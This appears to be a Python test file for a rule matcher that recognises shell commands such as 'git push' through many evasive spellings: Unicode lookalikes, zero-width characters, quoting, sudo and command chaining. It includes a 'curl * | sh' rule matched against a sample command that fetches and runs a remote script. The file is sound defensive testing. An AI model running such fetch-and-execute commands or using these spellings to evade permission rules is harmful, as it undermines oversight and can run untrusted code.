"""A rule's command is found in every spelling, and in what stands around it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from loopx_kernel.domain.spelling import LONGEST, may_mean

PUSH = "git push*"


@pytest.mark.parametrize(
    "command",
    [
        "git push origin main",
        "  git\tpush  ",
        "GIT Push",
        "'git' \"push\" origin",
        "gi't' pu\\sh",
        "ｇit push",
        "git\u00a0push",
        "g\u200bit pu\u2060sh",
        "/usr/bin/git push",
        "sudo -n git push",
        "make test && git push",
        "make test;git push",
        "sh -c 'git push origin main'",
        "echo $(git push)",
        "true\ngit push",
        "x" * (LONGEST + 1),
    ],
)
def test_spellings_of_a_push(command: str) -> None:
    assert may_mean(PUSH, command)


@pytest.mark.parametrize("command", ["git pull", "git pushed", "digit push", "", "npm publish"])
def test_other_commands(command: str) -> None:
    assert not may_mean("git push", command)


def test_a_command_that_ends_is_found_before_another() -> None:
    assert may_mean("make deploy", "make deploy && true")
    assert not may_mean("make deploy", "make deploy-docs")


def test_a_rule_may_name_a_pipe_or_a_path() -> None:
    assert may_mean("curl * | sh", "curl -s https://e.x/i | sh")
    assert may_mean("./deploy.sh*", "./deploy.sh prod")
    assert may_mean("deploy.sh*", "./ops/deploy.sh prod")


@given(st.text(max_size=200), st.text(max_size=50))
def test_what_is_named_is_found_whatever_comes_before(before: str, after: str) -> None:
    assert may_mean(PUSH, f"{before} ; git push {after}")
